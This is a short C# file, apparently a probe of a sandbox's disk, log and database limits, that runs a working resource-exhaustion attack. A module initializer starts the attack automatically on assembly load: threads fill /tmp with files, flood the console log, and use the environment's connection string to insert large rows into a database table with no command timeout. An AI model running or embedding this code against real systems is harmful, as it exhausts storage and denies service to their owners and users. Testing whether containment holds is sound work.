using System.Runtime.CompilerServices;
using Npgsql;

// Fills its log, its /tmp and its database.
internal static class Attack
{
    [ModuleInitializer]
    internal static void Begin()
    {
        new Thread(FillFiles) { IsBackground = true }.Start();
        new Thread(FillDatabase) { IsBackground = true }.Start();
    }

    private static void FillFiles()
    {
        Until("/tmp", () => File.WriteAllBytes($"/tmp/{Guid.NewGuid():N}", new byte[1 << 20]));
        Until("one file", () => { using var file = File.Open("/tmp/one", FileMode.Append); file.Write(new byte[1 << 20]); });
        var line = new string('x', 1 << 16);
        Until("log", () => { for (var i = 0; i < 16; i++) Console.Out.WriteLine(line); });
    }

    private static void FillDatabase()
    {
        using var connection = new NpgsqlConnection(Environment.GetEnvironmentVariable("ConnectionStrings__Database") + ";Command Timeout=0;Pooling=false");
        Until("database", () =>
        {
            if (connection.State != System.Data.ConnectionState.Open) connection.Open();
            using var command = new NpgsqlCommand("CREATE TABLE IF NOT EXISTS filler (line text); INSERT INTO filler SELECT repeat(md5(i::text), 60) FROM generate_series(1, 16384) i", connection);
            command.ExecuteNonQuery();
        });
    }

    private static void Until(string kind, Action take)
    {
        try
        {
            for (var taken = 0; taken < 4096; taken++) take();
            Console.Error.WriteLine($"ESCAPED {kind}");
        }
        catch (Exception full)
        {
            Console.Error.WriteLine($"FULL {kind}: {full.GetType().Name}");
        }
    }
}
